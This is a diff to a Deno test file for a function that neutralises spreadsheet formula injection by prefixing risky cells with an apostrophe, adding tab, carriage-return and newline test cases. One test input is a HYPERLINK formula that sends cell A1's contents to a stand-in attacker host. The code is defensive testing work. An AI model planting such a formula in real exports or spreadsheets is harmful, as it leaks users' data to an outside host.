@@ -26,7 +26,8 @@ Deno.test("harmless() puts an apostrophe before formulas, and only there", () =>
   // A text that already has an apostrophe gets another one, so that reading restores the text.
   const behind = ["\t", "\r", "\n", "  ", "\u00a0", "\u200b", "\ufeff", "'", "''"];
   const starts = [...plain, ...behind.map((start) => `${start}=`)];
-  const run = ['=HYPERLINK("http://evil.test/"&A1,"x")', ...starts.map((start) => `${start}1+1`)];
+  const link = '=HYPERLINK("http://evil.test/"&A1,"x")';
+  const run = [link, "\tx", "\rx", "\nx", ...starts.map((start) => `${start}1+1`)];
   for (const text of run) {
     assertEquals(harmless(text), `'${text}`);
     assertEquals(withoutApostrophe(harmless(text)), text);
